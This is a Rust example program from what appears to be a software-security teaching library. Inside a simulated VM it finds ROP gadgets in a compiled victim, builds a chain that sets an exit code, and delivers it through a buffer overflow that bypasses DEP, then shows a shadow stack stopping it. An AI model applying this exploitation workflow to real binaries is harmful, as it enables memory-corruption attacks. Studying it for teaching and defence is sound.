//! Return-oriented programming end to end: scan a real binary for
//! gadgets (including *unintended* ones hiding inside immediates),
//! build a chain, and execute it past DEP.
//!
//! ```text
//! cargo run --example rop_attack
//! ```

use swsec::prelude::*;
use swsec_attacks::{GadgetFinder, Payload, RopChain};
use swsec_minc::{compile, parse, CompileOptions};
use swsec_vm::isa::{Instr, Reg};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let victim_src = swsec::attacker::VICTIM_SMASH;
    let unit = parse(victim_src)?;

    // The attacker's local copy of the binary.
    let local = compile(&unit, &CompileOptions::default())?;
    println!(
        "victim text: {} bytes at {:#010x}",
        local.text.len(),
        local.text_base
    );

    // Gadget discovery: decode from every byte offset.
    let finder = GadgetFinder::scan(&local.text, local.text_base, 3);
    println!("\n=== discovered gadgets (≤3 instructions, ending in ret) ===");
    for g in finder.gadgets().iter().take(12) {
        println!("  {g}");
    }
    println!("  … {} total", finder.gadgets().len());

    let pop_r0 = finder
        .pop_ret(Reg::R0)
        .expect("a pop r0; ret gadget exists");
    println!("\nchosen: pop r0; ret @ {pop_r0:#010x} (hides inside a movi immediate!)");

    let exit_gadget = swsec_attacks::find_instr_addr(&local.text, local.text_base, |i| {
        matches!(i, Instr::Sys(0))
    })
    .expect("an exit syscall exists");
    println!("chosen: sys exit    @ {exit_gadget:#010x} (the tail of _start)");

    // Chain: r0 <- 0x1337, then "return" into sys exit.
    let chain = RopChain::new().word(pop_r0).word(0x1337).word(exit_gadget);
    println!("\nchain: {:08x?}", chain.words());

    // Embed the chain in an overflow payload and fire it at a
    // DEP-protected victim (injected *code* would be stopped; reused
    // code is not).
    let smash =
        Payload::smash(&local.frames["handle"], "buf", chain.words()[0]).expect("buf exists");
    let mut payload = smash.build();
    payload.extend_from_slice(&chain.build()[4..]);

    let mut dep = DefenseConfig::none();
    dep.dep = true;
    let mut session = launch(&unit, dep, 9)?;
    session.machine.io_mut().feed_input(0, &payload);
    let outcome = session.run(1_000_000);
    println!("\nunder DEP: {outcome}  ← the attacker-chosen exit code, via reused code only");

    // The same chain dies against the hardware shadow stack.
    let mut shadow = dep;
    shadow.shadow_stack = true;
    let result = run_technique(Technique::Rop, shadow, 9)?;
    println!("under DEP+shadow stack: {}", result.outcome);

    Ok(())
}
